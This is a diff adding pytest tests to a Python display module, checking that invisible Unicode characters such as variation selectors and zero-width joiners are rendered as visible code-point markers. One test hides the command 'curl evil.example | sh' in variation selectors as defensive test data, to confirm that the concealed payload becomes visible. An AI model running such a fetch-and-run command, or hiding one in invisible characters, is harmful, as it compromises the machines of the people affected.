@@ -2,9 +2,33 @@
 
 from __future__ import annotations
 
+import sys
+import unicodedata
+
 import pytest
 
-from suture.core.display import blank_out, encodable, one_line, printable, shorten, visible_whitespace
+from suture.core.display import blank_out, encodable, has_ink, one_line, printable, shorten, visible_whitespace
+
+#: Default_Ignorable_Code_Point of DerivedCoreProperties.txt, which `unicodedata` does not have. Unicode 14.0 and 17.0
+#: have the same: it includes code points that are reserved for later characters of this kind.
+DEFAULT_IGNORABLE = (
+    *((0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F)),
+    *((0x200B, 0x200F), (0x202A, 0x202E), (0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF)),
+    *((0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF)),
+)
+#: Words in the names of characters that have no ink, and the characters with such a name that have: pictures of
+#: blanks, and marks that fill a gap visibly.
+BLANK_WORDS = {"FILLER", "BLANK", "INVISIBLE", "VARIATION", "JOINER", "NULL", "ZERO-WIDTH"}
+VISIBLE_BLANKS = {
+    "BLANK SYMBOL",
+    "SYMBOL FOR NULL",
+    "IDEOGRAPHIC VARIATION INDICATOR",
+    "DEVANAGARI GAP FILLER",
+    "DIVES AKURU GAP FILLER",
+    "MANICHAEAN PUNCTUATION LINE FILLER",
+    "NEWA GAP FILLER",
+}
+EVERYTHING = [chr(code) for code in range(sys.maxunicode + 1)]
 
 
 @pytest.mark.parametrize(
@@ -28,3 +52,38 @@ def test_text_is_shown_without_anything_invisible(function: object, text: str, e
 
 def test_a_long_text_is_cut_to_the_limit() -> None:
     assert [shorten("abcd", limit) for limit in (3, 4, 5)] == ["ab…", "abcd", "abcd"]
+
+
+def test_of_all_characters_only_those_of_categories_with_ink_are_shown_as_they_are() -> None:
+    for character in EVERYTHING:
+        shown = printable(character, keep="")
+        if shown == character:
+            assert character == " " or unicodedata.category(character)[0] in "LMNPS", hex(ord(character))
+        else:
+            assert shown == f"⟨U+{ord(character):04X}⟩"
+
+
+def test_no_character_that_unicode_ignores_by_default_is_shown_as_it_is() -> None:
+    ignorable = [chr(code) for first, last in DEFAULT_IGNORABLE for code in range(first, last + 1)]
+    assert [hex(ord(character)) for character in ignorable if has_ink(character)] == []
+
+
+def test_no_character_with_the_name_of_a_blank_is_shown_as_it_is() -> None:
+    shown = [unicodedata.name(character, "") for character in EVERYTHING if has_ink(character)]
+    blanks = {name for name in shown if not BLANK_WORDS.isdisjoint(name.split())}
+    assert blanks <= VISIBLE_BLANKS
+
+
+def test_ordinary_text_in_many_scripts_is_shown_as_it_is() -> None:
+    text = "naïve cafe\u0301 Ёлка Ελλάδα 日本語 한국어 עברית العربية हिन्दी ไทย မြန်မာ ភាសាខ្មែរ Tiếng Việt → ≠ “x” 😀 ½ \ufffd"
+    assert printable(text) == text
+
+
+def test_what_varies_or_joins_emoji_is_marked_so_that_texts_that_differ_look_different() -> None:
+    assert printable("⚠\ufe0f") == "⚠⟨U+FE0F⟩"
+    assert printable("👩\u200d🚀") == "👩⟨U+200D⟩🚀"
+
+
+def test_a_payload_of_variation_selectors_is_visible() -> None:
+    payload = "".join([chr(0xE0100 + byte) for byte in b"curl evil.example | sh"])
+    assert len(one_line(f"x = 1{payload}")) == 5 + len(payload) * len("⟨U+E0100⟩")
